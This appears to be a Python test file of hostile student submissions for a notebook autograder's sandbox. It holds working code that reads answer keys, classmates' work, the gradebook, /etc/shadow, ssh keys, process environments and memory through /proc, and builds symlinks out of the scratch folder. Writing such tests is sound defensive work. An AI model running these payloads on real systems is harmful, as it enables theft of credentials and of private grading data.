"""Reading what is others': keys, solutions, gradebook, submissions, memory."""

from textwrap import dedent

from tests.hostile.work import FUNCTIONS, VALUES, Work, attack

READ = "reading others"
LOOT = """
import glob
import os

def loot(*patterns):
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try:
                with open(path, "rb") as file:
                    print(path, file.read(200_000).decode("utf-8", "replace"))
            except OSError as error:
                print(path, error)
"""


def looting(work: Work, source: str) -> None:
    """A cell that can print whatever files a pattern finds."""
    work.extra(dedent(LOOT) + dedent(source))


def stealing(work: Work, pattern: str) -> None:
    """Each answer cell runs what stands in it in the notebooks that a pattern finds."""
    work.extra(f"""
        import glob
        import json

        stolen = {{}}
        for path in glob.glob("{pattern}"):
            try:
                for cell in json.load(open(path))["cells"]:
                    stolen[cell["metadata"].get("nbgrader", {{}}).get("grade_id")] = "".join(cell["source"])
            except OSError as error:
                print(error)
    """)
    for cell in [*VALUES, *FUNCTIONS]:
        work.put(cell, f"exec(stolen['{cell}'])")


@attack(READ)
def stolen_key(work):
    """The key file is run, its answers are handed in."""
    looting(
        work,
        """
        import runpy
        import sys

        loot("$COURSE/authoring/keys/*", "$COURSE/**/keys/a02*.py")
        try:
            found = runpy.run_path("$COURSE/authoring/keys/a02_counting.py").values()
            key = {v.id: v for v in found if hasattr(v, "id")}
        except Exception as error:
            print(error)
            key = {}
    """,
    )
    work.put(
        "largest-side",
        "names = ('k', 'c_in', 'c_out', 'limit_mmac')\n"
        "largest_side = key['a02.largest_side'].answer(**{n: getattr(q, n) for n in names})",
    )
    for cell, name in FUNCTIONS.items():
        work.put(cell, f"{name} = key['a02.{cell.replace('-', '_')}'].expected")


@attack(READ)
def stolen_solutions(work):
    """The instructor's notebook is read, its answer cells are run."""
    stealing(work, "$COURSE/s*/a02_counting/*.ipynb")


@attack(READ)
def stolen_submission(work):
    """A classmate's submission is read, her answer cells are run."""
    looting(work, "loot('$COURSE/submitted/$OTHER/**/*')")
    stealing(work, "$COURSE/submitted/$OTHER/a02_counting/*.ipynb")


@attack(READ)
def read_gradebook(work):
    """The gradebook, the journal and every database of the course are printed."""
    looting(work, "loot('$COURSE/*.db*', '$COURSE/*.journal*', '$COURSE/*.sqlite*', '$COURSE/*')")


@attack(READ)
def read_environment(work):
    """The environment of this process, of its parents and of every other one is printed."""
    looting(
        work,
        """
        print(dict(os.environ))
        loot("/proc/*/environ", "/proc/*/cmdline", "/proc/*/task/*/environ")
    """,
    )


@attack(READ)
def read_parents(work):
    """Memory, open files and folders of the parents are read through /proc."""
    looting(
        work,
        """
        for pid in (os.getppid(), 1, 2):
            loot(*(f"/proc/{pid}/{name}" for name in ("fd/*", "cwd/*", "root/*", "maps")))
            try:
                areas = [line.split()[0].split("-") for line in open(f"/proc/{pid}/maps") if " rw" in line]
                memory = open(f"/proc/{pid}/mem", "rb")
                for start, end in areas:
                    memory.seek(int(start, 16))
                    content = memory.read(min(int(end, 16) - int(start, 16), 10**8))
                    for word in (b"canary-", b"expected", b"SOLUTION"):
                        place = content.find(word)
                        if place >= 0:
                            print(content[place : place + 100])
            except (OSError, ValueError) as error:
                print(error)
    """,
    )


@attack(READ)
def read_own_memory(work):
    """This process's own memory is searched for what earlier submissions left in it."""
    work.extra("""
        import re

        found = set()
        try:
            memory = open("/proc/self/mem", "rb")
            for line in open("/proc/self/maps"):
                start, end = (int(n, 16) for n in line.split()[0].split("-"))
                if " rw" in line and end - start < 10**8:
                    try:
                        memory.seek(start)
                        found |= set(re.findall(rb"canar[y]-[a-z]+-[0-9a-f]{8,}", memory.read(end - start)))
                    except (OSError, ValueError):
                        pass
        except OSError as error:
            print(error)
        print(sorted(found))
    """)


@attack(READ)
def read_objects(work):
    """Frames and the garbage collector are searched for keys, tasks and other students' work."""
    work.extra("""
        import gc
        import sys

        frame = sys._getframe()
        while frame:
            print(list(frame.f_locals)[:50], str(frame.f_locals)[:2000])
            frame = frame.f_back
        for thing in gc.get_objects():
            if type(thing).__name__ in ("Key", "Task", "Paper", "Question", "Result", "Mark", "Assignment"):
                print(type(thing).__name__, str(vars(thing) if hasattr(thing, "__dict__") else thing)[:2000])
    """)


@attack(READ)
def read_machine(work):
    """Passwords, ssh keys, histories and temporary files of this machine are printed."""
    looting(
        work,
        """
        loot("/etc/shadow", "/root/.ssh/*", "/root/.*", "/home/*/.*", "/home/*/.ssh/*")
        loot("/tmp/*", "/var/tmp/*", "/dev/shm/*", "/run/secrets/**", "/proc/1/environ", "/proc/kcore")
        loot("$COURSE/**/*.toml", "$COURSE/.git/config")
    """,
    )


@attack(READ)
def linked_notebook(work):
    """A symbolic link beside the notebook to the gradebook, the key and the instructor's notebook."""
    work.links = {"data.csv": "$COURSE/gradebook.db", "key.py": "$COURSE/authoring/keys/a02_counting.py"}
    work.links["solved.ipynb"] = "$COURSE/solutions/a02_counting/a02_counting.ipynb"
    looting(work, "loot('*')")


@attack(READ)
def hard_links(work):
    """Hard links to the gradebook and the key beside the notebook."""
    work.hard = {"data.bin": "$COURSE/gradebook.db", "notes.txt": "$COURSE/authoring/keys/a02_counting.py"}
    looting(work, "loot('*')")


@attack(READ)
def made_links(work):
    """Links out of the scratch folder are made at run time, so that the clean-up or a copy follows them."""
    work.extra("""
        import os

        targets = {"a": "$COURSE", "b": "/etc/passwd", "c": "/", "d": "$COURSE/gradebook.db"}
        for name, target in targets.items():
            try:
                os.symlink(target, name)
                print(os.listdir(name) if os.path.isdir(name) else open(name, "rb").read(100))
                os.link(target, name + "-hard")
            except OSError as error:
                print(error)
    """)
